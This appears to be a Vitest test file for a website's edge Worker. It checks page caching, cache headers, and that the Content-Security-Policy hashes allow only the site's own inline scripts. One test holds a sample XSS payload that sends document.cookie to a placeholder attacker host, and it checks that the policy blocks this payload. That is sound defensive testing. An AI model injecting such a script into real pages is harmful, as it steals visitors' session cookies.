import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { eventDate } from "../support/event-dates";
import { validBooking, validQuote } from "../support/form-data";
import { postForm } from "./forms-support";
import { componentScripts } from "~/inline-scripts";
import { siteScriptHashes } from "~/security.server";
import { workerForFile } from "./worker";

const worker = workerForFile();

const cacheStatus = (response: Response) => response.headers.get("X-Cache");

/** The CSP hash of every inline script a browser would run on the page. */
function inlineScriptHashes(html: string): string[] {
  return [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)]
    .filter(([, attributes = ""]) => !attributes.includes("src=") && !attributes.includes('type="application/ld+json"'))
    .map(([, , text = ""]) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`);
}

function scriptSources(policy: string): string[] {
  return (policy.match(/script-src ([^;]+)/)?.[1] ?? "").split(" ");
}

describe("HTML from the edge cache", () => {
  it("serves a public page's repeat requests from the cache, the same bytes for a minute", async () => {
    const first = await worker.fetch("/packages");
    expect(cacheStatus(first)).toBe("MISS");
    expect(first.headers.get("Cache-Control")).toBe("public, max-age=60");
    const firstHtml = await first.text();
    // The copy is stored after the first answer has gone out.
    await expect.poll(async () => cacheStatus(await worker.fetch("/packages"))).toBe("HIT");
    const hit = await worker.fetch("/packages");
    expect(hit.status).toBe(200);
    expect(await hit.text()).toBe(firstHtml);
    expect(hit.headers.get("Content-Security-Policy")).toBe(first.headers.get("Content-Security-Policy"));
    expect(hit.headers.get("X-Content-Type-Options")).toBe("nosniff");
  });

  it("gives a cached page a policy with no nonce that allows exactly its inline scripts", async () => {
    await expect.poll(async () => cacheStatus(await worker.fetch("/"))).toBe("HIT");
    const response = await worker.fetch("/");
    const policy = response.headers.get("Content-Security-Policy") ?? "";
    const html = await response.text();
    expect(policy).not.toMatch(/nonce-|script-src[^;]*'unsafe-inline'/);
    expect(html).not.toContain("nonce=");
    const hashes = inlineScriptHashes(html);
    expect(hashes.length).toBeGreaterThan(0);
    expect(scriptSources(policy).filter((source) => source.startsWith("'sha256-")).sort()).toEqual([...new Set(hashes)].sort());
  });

  it("allows every script of the site's pages, and no script injected into one", async () => {
    const injected = "<script>fetch('https://evil.example/?' + document.cookie)</script>";
    for (const path of ["/", "/pbseopage", "/quickquote", "/packages"]) {
      const response = await worker.fetch(path);
      const html = await response.text();
      const own = inlineScriptHashes(html);
      expect(scriptSources(response.headers.get("Content-Security-Policy") ?? "").filter((source) => source.startsWith("'sha256-")).sort(), path).toEqual([...new Set(own)].sort());
      // The page's hashing, fed the page with a script added: the Worker's boot script is the one
      // before Remix's context (the test's own build of it is not the Worker's minified text).
      const bootScript = /<script>((?:(?!<\/script>)[\s\S])*)<\/script><script>window\.__remixContext = /.exec(html)?.[1] ?? "";
      expect(bootScript, path).not.toBe("");
      const withInjection = html.replace("</h1>", `</h1>${injected}`);
      expect(withInjection, path).toContain(injected);
      const allowed = await siteScriptHashes(withInjection, [...componentScripts, bootScript]);
      expect(allowed.sort(), path).toEqual([...new Set(own)].sort());
      expect(allowed, path).not.toContain(inlineScriptHashes(injected)[0]);
    }
  });

  it("never caches a page with a query string, which may carry a search or an availability answer", async () => {
    for (let request = 0; request < 2; request++) {
      const response = await worker.fetch("/packages?from=ad");
      expect(cacheStatus(response)).toBe("BYPASS");
      expect(response.headers.get("Cache-Control")).toBe("private, no-store");
    }
  });

  it("never caches an invoice page", async () => {
    const booked = await postForm(worker, "/booking", {
      ...validBooking,
      eventDate: eventDate("security", 23),
      boothType: "Open Booth",
      website: "",
    });
    const invoice = booked.headers.get("location")!;
    expect(invoice).toMatch(/^\/invoice\//);
    for (let request = 0; request < 2; request++) {
      const response = await worker.fetch(invoice);
      expect(response.status).toBe(200);
      expect(cacheStatus(response)).toBe("BYPASS");
      expect(response.headers.get("Cache-Control")).toBe("private, no-store");
    }
    // The client's own data is in the page's scripts, and they are still the site's own.
    const page = await worker.fetch(invoice);
    const sources = scriptSources(page.headers.get("Content-Security-Policy") ?? "").filter((source) => source.startsWith("'sha256-"));
    expect(sources.sort()).toEqual([...new Set(inlineScriptHashes(await page.text()))].sort());
  });

  it("never caches a form sent back with its errors, and a later visit gets the empty form", async () => {
    const refused = await postForm(worker, "/quickquote", { ...validQuote, fullName: "Cache Probe", eventLocation: " ", website: "" });
    expect(refused.status).toBe(400);
    expect(refused.headers.get("Cache-Control")).toBe("private, no-store");
    expect(cacheStatus(refused)).toBe("BYPASS");
    expect(await (await worker.fetch("/quickquote")).text()).not.toContain("Cache Probe");
  });

  it("does not cache a page that is not found", async () => {
    const response = await worker.fetch("/no-such-page");
    expect(response.status).toBe(404);
    expect(response.headers.get("Cache-Control")).toBe("private, no-store");
  });
});
